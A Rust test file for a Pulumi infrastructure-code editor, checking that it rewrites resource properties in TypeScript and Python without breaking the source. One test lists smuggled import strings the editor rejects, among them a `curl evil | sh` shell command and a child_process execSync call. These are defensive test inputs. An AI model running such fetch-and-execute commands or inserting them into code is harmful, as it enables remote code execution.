// Helpers take values by value so tests read as `set(…, json!(…))`.
#![allow(clippy::needless_pass_by_value)]

use std::path::Path;

use serde_json::{Value as Json, json};

use super::*;

fn doc(language: Language, src: &str) -> Document {
    let path = match language {
        Language::TypeScript => "index.ts",
        Language::Python => "__main__.py",
    };
    Document::new(language, Path::new(path), src.to_string())
}

fn set(
    language: Language,
    src: &str,
    name: &str,
    path: &str,
    value: Json,
) -> Result<String, EditError> {
    let d = doc(language, src);
    let r = d
        .resources()
        .iter()
        .find(|r| r.display_name() == name)
        .unwrap_or_else(|| panic!("no resource {name}"));
    let edits = d.set(r, path, &value)?;
    let out = d.apply(&edits)?;
    // Whatever the edit, the result parses and carries the value.
    let after = doc(language, &out);
    assert_eq!(after.syntax_errors(), 0, "broken output:\n{out}");
    let r = after
        .resources()
        .iter()
        .find(|r| r.display_name() == name)
        .unwrap();
    if !path.contains("[*]") {
        let mut cur = Json::Object(r.properties.clone());
        for key in path.split('.') {
            cur = cur.get(key).cloned().unwrap_or(Json::Null);
        }
        assert_eq!(cur, value, "after:\n{out}");
    }
    Ok(out)
}

fn ts(src: &str, name: &str, path: &str, value: Json) -> String {
    set(Language::TypeScript, src, name, path, value).unwrap()
}

fn py(src: &str, name: &str, path: &str, value: Json) -> String {
    set(Language::Python, src, name, path, value).unwrap()
}

const TS_HEAD: &str = "import * as aws from \"@pulumi/aws\";\n";

#[test]
fn ts_replaces_a_wrong_value() {
    let src = format!("{TS_HEAD}new aws.s3.Bucket(\"b\", {{\n    acl: \"public-read\",\n}});\n");
    assert_eq!(
        ts(&src, "b", "acl", json!("private")),
        format!("{TS_HEAD}new aws.s3.Bucket(\"b\", {{\n    acl: \"private\",\n}});\n")
    );
}

#[test]
fn ts_adds_a_missing_property_keeping_trailing_commas() {
    let src = format!(
        "{TS_HEAD}new aws.rds.Instance(\"db\", {{\n    engine: \"postgres\",\n    publiclyAccessible: false,\n}});\n"
    );
    assert_eq!(
        ts(&src, "db", "storageEncrypted", json!(true)),
        format!(
            "{TS_HEAD}new aws.rds.Instance(\"db\", {{\n    engine: \"postgres\",\n    publiclyAccessible: false,\n    storageEncrypted: true,\n}});\n"
        )
    );
}

#[test]
fn ts_adds_without_trailing_comma_and_keeps_comments() {
    let src = format!(
        "{TS_HEAD}new aws.rds.Instance(\"db\", {{\n  engine: \"postgres\" // pinned\n}});\n"
    );
    assert_eq!(
        ts(&src, "db", "storageEncrypted", json!(true)),
        format!(
            "{TS_HEAD}new aws.rds.Instance(\"db\", {{\n  engine: \"postgres\", // pinned\n  storageEncrypted: true\n}});\n"
        )
    );
}

#[test]
fn ts_single_line_objects_stay_on_one_line() {
    let src = format!("{TS_HEAD}new aws.ebs.Volume(\"v\", {{ size: 8 }});\n");
    assert_eq!(
        ts(&src, "v", "encrypted", json!(true)),
        format!("{TS_HEAD}new aws.ebs.Volume(\"v\", {{ size: 8, encrypted: true }});\n")
    );
    let empty = format!("{TS_HEAD}new aws.ebs.Volume(\"v\", {{}});\n");
    assert_eq!(
        ts(&empty, "v", "encrypted", json!(true)),
        format!("{TS_HEAD}new aws.ebs.Volume(\"v\", {{ encrypted: true }});\n")
    );
}

#[test]
fn ts_adds_an_args_object_when_there_is_none() {
    let src = format!("{TS_HEAD}new aws.ecr.Repository(\"r\");\n");
    assert_eq!(
        ts(&src, "r", "imageTagMutability", json!("IMMUTABLE")),
        format!(
            "{TS_HEAD}new aws.ecr.Repository(\"r\", {{ imageTagMutability: \"IMMUTABLE\" }});\n"
        )
    );
}

#[test]
fn ts_adds_a_missing_nested_block() {
    let src = format!("{TS_HEAD}new aws.s3.Bucket(\"b\", {{\n    acl: \"private\",\n}});\n");
    let out = ts(
        &src,
        "b",
        "serverSideEncryptionConfiguration.rule.applyServerSideEncryptionByDefault.sseAlgorithm",
        json!("AES256"),
    );
    assert!(out.contains("    serverSideEncryptionConfiguration: {\n        rule: { applyServerSideEncryptionByDefault: { sseAlgorithm: \"AES256\" } },\n    },\n"), "{out}");
}

#[test]
fn ts_adds_into_an_existing_nested_block() {
    let src = format!(
        "{TS_HEAD}new aws.eks.Cluster(\"c\", {{\n    vpcConfig: {{ subnetIds: [\"s-1\"] }},\n}});\n"
    );
    let out = ts(&src, "c", "vpcConfig.endpointPublicAccess", json!(false));
    assert!(
        out.contains("vpcConfig: { subnetIds: [\"s-1\"], endpointPublicAccess: false },"),
        "{out}"
    );
    let src = format!(
        "{TS_HEAD}new aws.dynamodb.Table(\"t\", {{ pointInTimeRecovery: {{ enabled: false }} }});\n"
    );
    assert!(
        ts(&src, "t", "pointInTimeRecovery.enabled", json!(true)).contains("{ enabled: true }")
    );
}

#[test]
fn ts_keeps_single_quotes() {
    let src = "import * as aws from '@pulumi/aws';\nnew aws.ecr.Repository('r', { imageTagMutability: 'MUTABLE' });\n";
    assert!(
        ts(src, "r", "imageTagMutability", json!("IMMUTABLE"))
            .contains("imageTagMutability: 'IMMUTABLE'")
    );
}

#[test]
fn ts_edits_an_args_const_used_by_this_resource_alone() {
    let src = format!(
        "{TS_HEAD}const args = {{\n    acl: \"public-read\",\n}};\nnew aws.s3.Bucket(\"b\", args);\n"
    );
    let out = ts(&src, "b", "acl", json!("private"));
    assert!(
        out.contains("const args = {\n    acl: \"private\",\n};"),
        "{out}"
    );
    let out = ts(&src, "b", "forceDestroy", json!(false));
    assert!(
        out.contains("    acl: \"public-read\",\n    forceDestroy: false,\n};"),
        "{out}"
    );
}

#[test]
fn ts_declines_a_const_shared_by_two_resources() {
    let src = format!(
        "{TS_HEAD}const args = {{ acl: \"public-read\" }};\nnew aws.s3.Bucket(\"a\", args);\nnew aws.s3.Bucket(\"b\", args);\n"
    );
    let err = set(Language::TypeScript, &src, "a", "acl", json!("private")).unwrap_err();
    assert!(
        matches!(err, EditError::Declined(ref m) if m.contains("`args`")),
        "{err}"
    );
    let err = set(
        Language::TypeScript,
        &src,
        "a",
        "versioning.enabled",
        json!(true),
    )
    .unwrap_err();
    assert!(matches!(err, EditError::Declined(_)), "{err}");
}

#[test]
fn ts_declines_a_shared_nested_value_but_not_an_inline_one() {
    let src = format!(
        "{TS_HEAD}const sse = {{ rule: {{ applyServerSideEncryptionByDefault: {{ sseAlgorithm: \"bogus\" }} }} }};\nnew aws.s3.Bucket(\"a\", {{ serverSideEncryptionConfiguration: sse }});\nnew aws.s3.Bucket(\"b\", {{ serverSideEncryptionConfiguration: sse }});\n"
    );
    let err = set(
        Language::TypeScript,
        &src,
        "a",
        "serverSideEncryptionConfiguration.rule.applyServerSideEncryptionByDefault.sseAlgorithm",
        json!("AES256"),
    )
    .unwrap_err();
    assert!(
        matches!(err, EditError::Declined(ref m) if m.contains("`sse`")),
        "{err}"
    );
    // A scalar const used in the call is replaced at the call, leaving the const alone.
    let src = format!(
        "{TS_HEAD}const ACL = \"public-read\";\nnew aws.s3.Bucket(\"a\", {{ acl: ACL }});\nnew aws.s3.Bucket(\"b\", {{ acl: ACL }});\n"
    );
    let out = ts(&src, "a", "acl", json!("private"));
    assert!(
        out.contains("const ACL = \"public-read\";")
            && out.contains("(\"a\", { acl: \"private\" })"),
        "{out}"
    );
}

#[test]
fn ts_declines_unknown_values_and_spreads() {
    let src = format!(
        "{TS_HEAD}new aws.s3.Bucket(\"a\", {{ acl: cfg.get(\"acl\") }});\nnew aws.s3.Bucket(\"b\", {{ ...common }});\nnew aws.s3.Bucket(\"c\", common);\n"
    );
    for name in ["a", "b", "c"] {
        let err = set(Language::TypeScript, &src, name, "acl", json!("private")).unwrap_err();
        assert!(matches!(err, EditError::Declined(_)), "{name}: {err}");
    }
}

#[test]
fn ts_resources_in_loops_and_components_are_found_by_expression() {
    let src = format!(
        "{TS_HEAD}for (const env of envs) {{\n    new aws.kms.Key(`key-${{env}}`, {{\n        description: \"k\",\n    }});\n}}\n"
    );
    let out = ts(&src, "`key-${env}`", "enableKeyRotation", json!(true));
    assert!(
        out.contains("        description: \"k\",\n        enableKeyRotation: true,\n"),
        "{out}"
    );
}

#[test]
fn ts_sets_every_array_element() {
    let src = format!(
        "{TS_HEAD}new aws.ec2.SecurityGroup(\"sg\", {{\n    ingress: [\n        {{ fromPort: 22, toPort: 22, cidrBlocks: [\"0.0.0.0/0\"] }},\n        {{ fromPort: 80, toPort: 80 }},\n    ],\n}});\n"
    );
    let out = ts(&src, "sg", "ingress[*].cidrBlocks", json!(["10.0.0.0/8"]));
    assert!(
        out.contains("{ fromPort: 22, toPort: 22, cidrBlocks: [\"10.0.0.0/8\"] }"),
        "{out}"
    );
    assert!(
        out.contains("{ fromPort: 80, toPort: 80, cidrBlocks: [\"10.0.0.0/8\"] }"),
        "{out}"
    );
}

#[test]
fn ts_removes_properties() {
    let d = doc(
        Language::TypeScript,
        &format!(
            "{TS_HEAD}new aws.s3.Bucket(\"b\", {{\n    acl: \"public-read\",\n    forceDestroy: true,\n}});\nnew aws.s3.Bucket(\"c\", {{ acl: \"public-read\", forceDestroy: true }});\n"
        ),
    );
    let b = d.find("aws:s3/bucket:Bucket", "b", 0).unwrap();
    let c = d.find("aws:s3/bucket:Bucket", "c", 0).unwrap();
    let mut edits = d.remove(b, "acl").unwrap();
    edits.extend(d.remove(c, "acl").unwrap());
    edits.extend(d.remove(c, "versioning").unwrap());
    let out = d.apply(&edits).unwrap();
    assert_eq!(
        out,
        format!(
            "{TS_HEAD}new aws.s3.Bucket(\"b\", {{\n    forceDestroy: true,\n}});\nnew aws.s3.Bucket(\"c\", {{ forceDestroy: true }});\n"
        )
    );
}

#[test]
fn ts_replace_in_resource_and_add_import() {
    let d = doc(
        Language::TypeScript,
        &format!(
            "{TS_HEAD}new aws.s3.Bucket(\"b\", {{ acl: \"public-read\" }});\nnew aws.s3.Bucket(\"c\", {{ acl: \"public-read\" }});\n"
        ),
    );
    let b = d.find("aws:s3/bucket:Bucket", "b", 0).unwrap();
    let edit = d
        .replace_in_resource(b, "\"public-read\"", "\"private\"")
        .unwrap();
    let out = d.apply(&[edit]).unwrap();
    assert!(
        out.contains("(\"b\", { acl: \"private\" })")
            && out.contains("(\"c\", { acl: \"public-read\" })")
    );
    assert!(matches!(
        d.replace_in_resource(b, "nope", "x"),
        Err(EditError::NotFound(_))
    ));
    let import = d
        .add_import("import * as pulumi from \"@pulumi/pulumi\";")
        .unwrap()
        .unwrap();
    let out = d.apply(&[import]).unwrap();
    assert!(
        out.starts_with(&format!(
            "{TS_HEAD}import * as pulumi from \"@pulumi/pulumi\";\n"
        )),
        "{out}"
    );
    assert_eq!(
        d.add_import("import * as aws from \"@pulumi/aws\";")
            .unwrap(),
        None
    );
    assert!(d.add_import("const x = 1;").is_err());
}

#[test]
fn add_import_takes_one_import_of_a_pulumi_package_and_nothing_else() {
    let ts = doc(
        Language::TypeScript,
        &format!("{TS_HEAD}new aws.s3.Bucket(\"b\");\n"),
    );
    for smuggled in [
        "import * as cp from \"child_process\";",
        "import { execSync } from \"child_process\"; execSync(\"id\");",
        "import * as util from \"util\";",
    ] {
        assert!(ts.add_import(smuggled).is_err(), "{smuggled}");
    }
    assert!(
        ts.add_import("import { s3 } from \"@pulumi/aws\";")
            .unwrap()
            .is_some()
    );

    let py = doc(
        Language::Python,
        "import pulumi_aws as aws\n\naws.s3.Bucket(\"b\")\n",
    );
    for smuggled in [
        "import os; os.system(\"curl evil | sh\")",
        "import os",
        "from subprocess import run",
        "import pulumi_aws as aws, os",
    ] {
        assert!(py.add_import(smuggled).is_err(), "{smuggled}");
    }
    assert!(
        py.add_import("import pulumi_random as random")
            .unwrap()
            .is_some()
    );
    assert!(
        py.add_import("from pulumi_aws import s3")
            .unwrap()
            .is_some()
    );
}

#[test]
fn footprint_covers_call_and_exclusive_definitions() {
    let src = format!(
        "{TS_HEAD}const base = {{ acl: \"private\" }};\nconst args = {{ ...base, forceDestroy: true }};\nconst shared = {{ acl: \"private\" }};\nnew aws.s3.Bucket(\"a\", args);\nnew aws.s3.Bucket(\"b\", {{ ...shared }});\nnew aws.s3.Bucket(\"c\", shared);\n"
    );
    let d = doc(Language::TypeScript, &src);
    let a = d.find("aws:s3/bucket:Bucket", "a", 0).unwrap();
    let f = d.footprint(a);
    let names: Vec<&str> = f.definitions.iter().map(|d| d.name.as_str()).collect();
    assert_eq!(names, vec!["args", "base"]);
    assert!(f.shared.is_empty());
    assert!(f.allows(f.definitions[0].span));
    let b = d.find("aws:s3/bucket:Bucket", "b", 0).unwrap();
    assert_eq!(d.footprint(b).shared, vec!["shared".to_string()]);
    assert!(!d.footprint(b).allows(Span {
        start: 0,
        end: src.len()
    }));
}

// ---------- Python ----------

const PY_HEAD: &str = "import pulumi\nimport pulumi_aws as aws\n";

#[test]
fn py_replaces_a_keyword_value() {
    let src = format!(
        "{PY_HEAD}aws.rds.Instance(\"db\", engine=\"postgres\", publicly_accessible=True)\n"
    );
    assert_eq!(
        py(&src, "db", "publiclyAccessible", json!(false)),
        format!(
            "{PY_HEAD}aws.rds.Instance(\"db\", engine=\"postgres\", publicly_accessible=False)\n"
        )
    );
}

#[test]
fn py_adds_keywords_before_opts() {
    let src = format!(
        "{PY_HEAD}aws.rds.Instance(\n    \"db\",\n    engine=\"postgres\",\n    opts=pulumi.ResourceOptions(protect=True),\n)\n"
    );
    assert_eq!(
        py(&src, "db", "storageEncrypted", json!(true)),
        format!(
            "{PY_HEAD}aws.rds.Instance(\n    \"db\",\n    engine=\"postgres\",\n    storage_encrypted=True,\n    opts=pulumi.ResourceOptions(protect=True),\n)\n"
        )
    );
    let one_line = format!("{PY_HEAD}aws.ecr.Repository(\"r\")\n");
    assert_eq!(
        py(&one_line, "r", "imageTagMutability", json!("IMMUTABLE")),
        format!("{PY_HEAD}aws.ecr.Repository(\"r\", image_tag_mutability=\"IMMUTABLE\")\n")
    );
}

#[test]
fn py_adds_nested_blocks_as_dicts() {
    let src = format!("{PY_HEAD}aws.dynamodb.Table(\"t\", hash_key=\"id\")\n");
    assert_eq!(
        py(&src, "t", "pointInTimeRecovery.enabled", json!(true)),
        format!(
            "{PY_HEAD}aws.dynamodb.Table(\"t\", hash_key=\"id\", point_in_time_recovery={{\"enabled\": True}})\n"
        )
    );
}

#[test]
fn py_edits_inside_args_classes_and_dicts() {
    let src =
        format!("{PY_HEAD}aws.rds.Instance(\"db\", aws.rds.InstanceArgs(engine=\"postgres\"))\n");
    assert!(
        py(&src, "db", "storageEncrypted", json!(true))
            .contains("aws.rds.InstanceArgs(engine=\"postgres\", storage_encrypted=True)")
    );
    let src = format!("{PY_HEAD}aws.eks.Cluster(\"c\", vpc_config={{\"subnet_ids\": [\"s\"]}})\n");
    assert!(
        py(&src, "c", "vpcConfig.endpointPublicAccess", json!(false))
            .contains("{\"subnet_ids\": [\"s\"], \"endpoint_public_access\": False}")
    );
    let src = format!(
        "{PY_HEAD}aws.eks.Cluster(\"c\", vpc_config=aws.eks.ClusterVpcConfigArgs(subnet_ids=[\"s\"]))\n"
    );
    assert!(
        py(&src, "c", "vpcConfig.endpointPublicAccess", json!(false))
            .contains("ClusterVpcConfigArgs(subnet_ids=[\"s\"], endpoint_public_access=False)")
    );
}

#[test]
fn py_module_constants_exclusive_and_shared() {
    let src = format!(
        "{PY_HEAD}BASE = {{\"engine\": \"postgres\", \"storage_encrypted\": False}}\naws.rds.Instance(\"db\", **BASE)\n"
    );
    let out = py(&src, "db", "storageEncrypted", json!(true));
    assert!(out.contains("\"storage_encrypted\": True}"), "{out}");
    let shared = format!(
        "{PY_HEAD}BASE = {{\"storage_encrypted\": False}}\naws.rds.Instance(\"a\", **BASE)\naws.rds.Instance(\"b\", **BASE)\n"
    );
    let err = set(
        Language::Python,
        &shared,
        "a",
        "storageEncrypted",
        json!(true),
    )
    .unwrap_err();
    assert!(matches!(err, EditError::Declined(_)), "{err}");
}

#[test]
fn py_removes_a_keyword_line() {
    let d = doc(
        Language::Python,
        &format!(
            "{PY_HEAD}aws.s3.Bucket(\n    \"b\",\n    acl=\"public-read\",\n    force_destroy=True,\n)\n"
        ),
    );
    let b = d.find("aws:s3/bucket:Bucket", "b", 0).unwrap();
    let out = d.apply(&d.remove(b, "acl").unwrap()).unwrap();
    assert_eq!(
        out,
        format!("{PY_HEAD}aws.s3.Bucket(\n    \"b\",\n    force_destroy=True,\n)\n")
    );
}

#[test]
fn apply_rejects_overlapping_edits() {
    let e = |s, t| TextEdit {
        span: Span { start: s, end: t },
        text: String::new(),
    };
    assert_eq!(
        apply_edits("abcdef", &[e(0, 3), e(2, 4)]),
        Err(EditError::Overlap)
    );
    assert_eq!(apply_edits("abcdef", &[e(4, 6), e(0, 1)]).unwrap(), "bcd");
}

#[test]
fn explicit_nothing_is_replaced_by_the_block() {
    let src = format!(
        "{TS_HEAD}new aws.s3.Bucket(\"b\", {{ serverSideEncryptionConfiguration: undefined }});\n"
    );
    let out = ts(
        &src,
        "b",
        "serverSideEncryptionConfiguration.rule.applyServerSideEncryptionByDefault.sseAlgorithm",
        json!("AES256"),
    );
    assert!(out.contains("serverSideEncryptionConfiguration: { rule: { applyServerSideEncryptionByDefault: { sseAlgorithm: \"AES256\" } } }"), "{out}");
    let src = format!("{PY_HEAD}aws.dynamodb.Table(\"t\", point_in_time_recovery=None)\n");
    assert!(
        py(&src, "t", "pointInTimeRecovery.enabled", json!(true))
            .contains("point_in_time_recovery={\"enabled\": True}")
    );
}

/// A fix of a resource a component creates is written as the component's own argument.
#[test]
fn edits_of_a_created_resource_go_to_the_components_arguments() {
    let src = r#"import * as eks from "@pulumi/eks";

const cluster = new eks.Cluster("cluster", {
    instanceType: "t3.medium",
    publicAccessCidrs: ["0.0.0.0/0"],
});
"#;
    let d = doc(Language::TypeScript, src);
    let created = d
        .resources()
        .iter()
        .find(|r| r.type_token == "aws:eks/cluster:Cluster")
        .unwrap();
    let edits = d
        .set(created, "vpcConfig.endpointPublicAccess", &json!(false))
        .unwrap();
    // Set from `encryptionConfigKeyArn` by the component: nothing to write.
    assert!(
        d.set(created, "encryptionConfig.resources", &json!(["secrets"]))
            .unwrap()
            .is_empty()
    );
    let err = d
        .set(created, "kubernetesNetworkConfig.ipFamily", &json!("ipv4"))
        .unwrap_err();
    assert!(err.to_string().contains("has no argument"), "{err}");
    let out = d.apply(&edits).unwrap();
    // One edit at a time, on the text the last one left, as recipes apply them.
    let d = doc(Language::TypeScript, &out);
    let created = d
        .resources()
        .iter()
        .find(|r| r.type_token == "aws:eks/cluster:Cluster")
        .unwrap();
    let out = d
        .apply(&d.remove(created, "vpcConfig.publicAccessCidrs").unwrap())
        .unwrap();
    assert!(out.contains("endpointPublicAccess: false"), "{out}");
    assert!(!out.contains("publicAccessCidrs"), "{out}");
    assert!(!out.contains("vpcConfig"), "{out}");
    let after = doc(Language::TypeScript, &out);
    let created = after
        .resources()
        .iter()
        .find(|r| r.type_token == "aws:eks/cluster:Cluster")
        .unwrap();
    assert_eq!(
        created.properties["vpcConfig"]["endpointPublicAccess"],
        json!(false)
    );
}
